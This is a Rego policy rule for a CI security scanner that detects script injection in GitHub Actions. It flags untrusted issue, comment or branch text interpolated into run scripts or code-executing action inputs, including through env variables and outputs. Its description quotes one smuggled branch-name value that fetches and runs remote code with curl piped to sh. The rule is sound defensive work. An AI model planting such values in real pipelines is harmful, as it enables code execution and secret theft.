# METADATA
# title: No text of strangers becomes part of a script
# description: |
#   `${{ … }}` is replaced before the shell or the interpreter reads the script. The title of an issue, a comment, a
#   commit message or the name of a branch then is code: a branch may be called `$(curl example.com|sh)`. The detour
#   over `${{ env.NAME }}` or an output changes nothing; a shell variable, `"$NAME"`, does, because the shell does not
#   read its value as code.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#     description: GitHub, script injections
#   - ref: https://owasp.org/www-project-top-10-ci-cd-security-risks/
#     description: OWASP Top 10 CI/CD security risks, CICD-SEC-4
# custom:
#   severity: high
#   profile: baseline
#   checklists: [publisher]
#   remediation: |
#     Hand the value over in a variable and read it there: `env: TITLE: ${{ github.event.issue.title }}` with
#     `run: echo "$TITLE"`, and in `actions/github-script` use `context.payload` or `process.env.TITLE`.
package palisade.ci.script_injection

import data.palisade.lib.triggers
import data.palisade.lib.untrusted

deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	some expression in step.expressions
	expression["in"] == "run"
	carried := _at_once(pipeline, job, step, expression)
	count(carried) > 0
	violation := _violation(pipeline, job, expression, carried)
}

# The same for inputs that an action runs.
deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	step.uses.action in _script_actions
	some expression in step.expressions
	_is_script_input(step, expression)
	carried := _at_once(pipeline, job, step, expression)
	count(carried) > 0
	violation := _violation(pipeline, job, expression, carried)
}

# What looks into other steps and jobs stands by itself: the definitions above get only the steps that concern them.
deny contains violation if {
	some pipeline in input.pipelines
	some job in pipeline.jobs
	some step in job.steps
	some expression in step.expressions
	strings.any_prefix_match(expression.contexts, ["steps.", "needs."])
	_is_script(step, expression)
	carried := _through_outputs(pipeline, job, expression)
	count(carried) > 0
	count(_at_once(pipeline, job, step, expression)) == 0
	violation := _violation(pipeline, job, expression, carried)
}

_violation(pipeline, job, expression, carried) := {
	"msg": _message(job, carried),
	"at": expression.at,
	"severity": _severity(pipeline, job),
}

_message(job, carried) := sprintf("whoever writes `%s` can run commands in job `%s`", [min(direct), job.id]) if {
	direct := {pair[1] | some pair in carried; pair[0] == ""}
	count(direct) > 0
} else := sprintf("`%s` carries `%s` into the script of job `%s`", [pair[0], pair[1], job.id]) if {
	pair := min(carried)
}

# With rights and secrets it is a takeover; on a change from a fork the token can only read.
_severity(pipeline, job) := "critical" if {
	count(triggers.reaching(input.pipelines, pipeline, job)) > 0
} else := "medium" if {
	pipeline.kind == "workflow"
	triggers.events(pipeline) == {"pull_request"}
} else := "high"

_is_script(_, expression) if expression["in"] == "run"

_is_script(step, expression) if _is_script_input(step, expression)

_is_script_input(step, expression) if {
	some name in _script_inputs[step.uses.action]
	lower(expression["in"]) == sprintf("with/%s", [name])
}

# Inputs that an action runs as code, in lower case.
_script_inputs := {
	"actions/github-script": ["script"],
	"addnab/docker-run-action": ["options", "run"],
	"amadevus/pwsh-script": ["script"],
	"appleboy/ssh-action": ["script"],
	"azure/cli": ["inlinescript"],
	"azure/powershell": ["inlinescript"],
	"cardinalby/js-eval-action": ["expression"],
	"devcontainers/ci": ["runcmd"],
	"jannekem/run-python-script-action": ["script"],
	"mikefarah/yq": ["cmd"],
	"nick-fields/retry": ["command"],
	"nick-invision/retry": ["command"],
	"reactivecircus/android-emulator-runner": ["script"],
}

# The same names as a set of words, so that steps without such an action are left out beforehand.
_script_actions := {
	"actions/github-script",
	"addnab/docker-run-action",
	"amadevus/pwsh-script",
	"appleboy/ssh-action",
	"azure/cli",
	"azure/powershell",
	"cardinalby/js-eval-action",
	"devcontainers/ci",
	"jannekem/run-python-script-action",
	"mikefarah/yq",
	"nick-fields/retry",
	"nick-invision/retry",
	"reactivecircus/android-emulator-runner",
}

# Pairs of the way that an untrusted context takes and the context: the way is empty where the expression names it.
_at_once(pipeline, job, step, expression) := direct | _through_variables(pipeline, job, step, expression) if {
	direct := {["", context] | some context in untrusted.in_expression(expression)}
}

_through_variables(pipeline, job, step, expression) := {[context, origin] |
	some context in expression.contexts
	startswith(context, "env.")
	some name, origins in untrusted.variables(pipeline, job, step)
	context == sprintf("env.%s", [lower(name)])
	some origin in origins
}

_through_outputs(pipeline, job, expression) := {[context, origin] |
	some context in expression.contexts
	some origin in _output_origins(pipeline, job, context)
}

_output_origins(pipeline, job, context) := _step_output(pipeline, job, context) if {
	startswith(context, "steps.")
}

_output_origins(pipeline, _, context) := {origin |
	some needed in pipeline.jobs
	some outlet in needed.expressions
	startswith(outlet["in"], "outputs/")
	name := trim_prefix(outlet["in"], "outputs/")
	context == lower(sprintf("needs.%s.outputs.%s", [needed.id, name]))
	some origin in (untrusted.in_expression(outlet) | {from |
		some inner in outlet.contexts
		some from in _step_output(pipeline, needed, inner)
	})
} if {
	startswith(context, "needs.")
}

# What a step writes to its outputs from untrusted variables and expressions.
_step_output(pipeline, job, context) := {origin |
	some step in job.steps
	startswith(context, lower(sprintf("steps.%s.outputs.", [step.id])))
	some command in step.commands
	some file in command.writes
	contains(file, "GITHUB_OUTPUT")
	some argument in command.arguments
	some name in regex.find_n(`^[A-Za-z_][A-Za-z0-9_-]*=`, argument, 1)
	context == lower(sprintf("steps.%s.outputs.%s", [step.id, trim_suffix(name, "=")]))
	some origin in _origins_in(pipeline, job, step, argument)
} | {"the files or the branch of a change" |
	some step in job.steps
	regex.match(_telling_outputs[step.uses.action], context)
	startswith(context, lower(sprintf("steps.%s.outputs.", [step.id])))
}

_origins_in(pipeline, job, step, argument) := untrusted.in_text(argument) | {origin |
	some name, origins in untrusted.variables(pipeline, job, step)
	untrusted.reads_variable(argument, name)
	some origin in origins
}

# Outputs that hold names of files, branches or fields as strangers wrote them.
_telling_outputs := {
	"eficode/resolve-pr-refs": `\.head_ref$`,
	"jitterbit/get-changed-files": `\.outputs\.`,
	"stefanbuck/github-issue-parser": `\.outputs\.(jsonstring|issueparser_)`,
	"trilom/file-changes-action": `\.outputs\.`,
	"xt0rted/pull-request-comment-branch": `\.head_ref$`,
}
